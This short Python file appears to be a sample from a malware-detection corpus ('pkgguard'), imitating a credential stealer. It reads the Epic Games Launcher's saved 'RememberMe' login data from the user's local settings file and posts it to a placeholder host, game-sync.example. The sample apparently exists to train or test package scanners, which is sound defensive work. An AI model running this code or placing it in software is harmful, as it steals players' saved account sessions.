# pkgguard corpus 822 (credentials), modelled on [stealer-profile]; inert, never run.
import configparser
import os

import httpx

ini = os.path.join(os.environ.get("LOCALAPPDATA", ""), "EpicGamesLauncher", "Saved", "Config", "Windows", "GameUserSettings.ini")
if os.path.exists(ini):
    parser = configparser.ConfigParser(strict=False)
    parser.read(ini, encoding="utf-8")
    if parser.has_section("RememberMe"):
        httpx.post("https://game-sync.example/e", json={"data": parser.get("RememberMe", "Data", fallback="")}, timeout=10)
